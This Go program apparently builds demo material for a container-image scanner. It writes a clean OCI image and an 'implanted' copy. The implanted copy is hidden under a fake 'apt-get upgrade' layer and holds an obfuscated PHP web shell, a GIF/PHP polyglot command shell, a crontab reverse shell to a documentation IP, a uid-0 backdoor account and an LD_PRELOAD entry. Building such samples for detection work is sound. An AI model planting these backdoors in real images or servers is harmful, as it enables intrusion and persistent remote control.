// Demoimages makes the two container images of make demo: a small golden one
// and a copy that somebody has implanted. The samples are short and inert, and every
// address in them is a documentation address (RFC 5737).
//
//	go run ./examples/demoimages DIR    # an OCI layout with the tags golden and implanted
package main

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"crypto/sha256"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"time"
)

func main() {
	if len(os.Args) != 2 {
		fmt.Fprintln(os.Stderr, "usage: demoimages DIR")
		os.Exit(2)
	}
	if err := run(os.Args[1]); err != nil {
		fmt.Fprintln(os.Stderr, "demoimages:", err)
		os.Exit(1)
	}
}

// step is one layer: what is written, and the command that history gives for it.
type step struct {
	command string
	files   []file
}

type file struct {
	path, data string
	mode       int64
}

var golden = []step{
	{"/bin/sh -c #(nop) ADD file:rootfs in / ", []file{
		{"etc/passwd", "root:x:0:0:root:/root:/bin/sh\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n", 0o644},
		{"etc/os-release", "ID=demo\nPRETTY_NAME=\"Demo Linux 1\"\n", 0o644},
		{"etc/crontab", "17 * * * * root run-parts /etc/cron.hourly\n", 0o644},
		{"usr/local/bin/entrypoint", "#!/bin/sh\nexec httpd -f -h /var/www\n", 0o755},
	}},
	{"COPY site /var/www # buildkit", []file{
		{"var/www/index.php", "<?php\nrequire __DIR__ . '/lib/page.php';\necho render('home');\n", 0o644},
		{"var/www/lib/page.php", "<?php\nfunction render($n) { return '<h1>' . htmlspecialchars($n) . '</h1>'; }\n", 0o644},
		{"var/www/img/logo.gif", "GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;", 0o644},
	}},
}

var implants = []step{
	{"RUN /bin/sh -c apt-get update && apt-get upgrade -y # buildkit", []file{
		{"var/www/lib/cache.php", "<?php\n$f = 'ass' . 'ert';\n@$f(base64_decode($_POST['k']));\n", 0o644},
		{"var/www/img/logo.gif", "GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xfe<?php system($_GET['c']); ?>\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;", 0o644},
		{"etc/crontab", "17 * * * * root run-parts /etc/cron.hourly\n* * * * * root bash -c 'bash -i >& /dev/tcp/203.0.113.77/443 0>&1'\n", 0o644},
		{"etc/passwd", "root:x:0:0:root:/root:/bin/sh\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\nbackup2:x:0:0::/root:/bin/sh\n", 0o644},
	}},
}

func run(dir string) error {
	if err := os.MkdirAll(filepath.Join(dir, "blobs", "sha256"), 0o755); err != nil {
		return err
	}
	l := &layout{dir: dir}
	base := imageConfig{Entrypoint: []string{"/usr/local/bin/entrypoint"}, Env: []string{"PATH=/usr/local/bin:/usr/bin:/bin"}, User: "www-data"}
	bad := base
	bad.Env = append(append([]string(nil), base.Env...), "LD_PRELOAD=/var/www/img/.cache.so")
	bad.User = ""
	if err := l.image("golden", golden, base); err != nil {
		return err
	}
	if err := l.image("implanted", append(append([]step(nil), golden...), implants...), bad); err != nil {
		return err
	}
	if err := os.WriteFile(filepath.Join(dir, "oci-layout"), []byte(`{"imageLayoutVersion":"1.0.0"}`), 0o644); err != nil {
		return err
	}
	return l.writeIndex()
}

type descriptor struct {
	MediaType   string            `json:"mediaType"`
	Digest      string            `json:"digest"`
	Size        int               `json:"size"`
	Platform    map[string]string `json:"platform,omitempty"`
	Annotations map[string]string `json:"annotations,omitempty"`
}

type imageConfig struct {
	User       string   `json:",omitempty"`
	Entrypoint []string `json:",omitempty"`
	Env        []string
}

// layout is an OCI image layout that is being written.
type layout struct {
	dir       string
	manifests []descriptor
}

// made is when everything was made, so that equal inputs give equal digests.
var made = time.Date(2024, 5, 1, 12, 0, 0, 0, time.UTC)

// image writes one image. Source: OCI image specification, "Image Manifest", "Image Configuration".
func (l *layout) image(tag string, steps []step, cfg imageConfig) error {
	var layers []descriptor
	var diffIDs []string
	var history []map[string]string
	for _, s := range steps {
		raw, zipped, err := layer(s.files)
		if err != nil {
			return err
		}
		d, err := l.blob("application/vnd.oci.image.layer.v1.tar+gzip", zipped)
		if err != nil {
			return err
		}
		layers = append(layers, d)
		diffIDs = append(diffIDs, fmt.Sprintf("sha256:%x", sha256.Sum256(raw)))
		history = append(history, map[string]string{"created": made.Format(time.RFC3339), "created_by": s.command})
	}
	config, err := l.json("application/vnd.oci.image.config.v1+json", map[string]any{
		"created": made.Format(time.RFC3339), "architecture": "amd64", "os": "linux", "config": cfg,
		"rootfs": map[string]any{"type": "layers", "diff_ids": diffIDs}, "history": history,
	})
	if err != nil {
		return err
	}
	m, err := l.json("application/vnd.oci.image.manifest.v1+json", map[string]any{
		"schemaVersion": 2, "mediaType": "application/vnd.oci.image.manifest.v1+json", "config": config, "layers": layers,
	})
	if err != nil {
		return err
	}
	m.Annotations = map[string]string{"org.opencontainers.image.ref.name": tag}
	m.Platform = map[string]string{"os": "linux", "architecture": "amd64"}
	l.manifests = append(l.manifests, m)
	return nil
}

// layer makes a tar of files and its gzip form.
func layer(files []file) (raw, zipped []byte, err error) {
	var buf, out bytes.Buffer
	w := tar.NewWriter(&buf)
	for _, f := range files {
		h := &tar.Header{Name: f.path, Mode: f.mode, Size: int64(len(f.data)), ModTime: made, Typeflag: tar.TypeReg}
		if err := w.WriteHeader(h); err != nil {
			return nil, nil, err
		}
		if _, err := w.Write([]byte(f.data)); err != nil {
			return nil, nil, err
		}
	}
	if err := w.Close(); err != nil {
		return nil, nil, err
	}
	z := gzip.NewWriter(&out)
	if _, err := z.Write(buf.Bytes()); err != nil {
		return nil, nil, err
	}
	if err := z.Close(); err != nil {
		return nil, nil, err
	}
	return buf.Bytes(), out.Bytes(), nil
}

func (l *layout) json(mediaType string, v any) (descriptor, error) {
	b, err := json.Marshal(v)
	if err != nil {
		return descriptor{}, err
	}
	return l.blob(mediaType, b)
}

func (l *layout) blob(mediaType string, b []byte) (descriptor, error) {
	sum := fmt.Sprintf("%x", sha256.Sum256(b))
	err := os.WriteFile(filepath.Join(l.dir, "blobs", "sha256", sum), b, 0o644)
	return descriptor{MediaType: mediaType, Digest: "sha256:" + sum, Size: len(b)}, err
}

func (l *layout) writeIndex() error {
	b, err := json.Marshal(map[string]any{"schemaVersion": 2, "mediaType": "application/vnd.oci.image.index.v1+json", "manifests": l.manifests})
	if err != nil {
		return err
	}
	return os.WriteFile(filepath.Join(l.dir, "index.json"), b, 0o644)
}
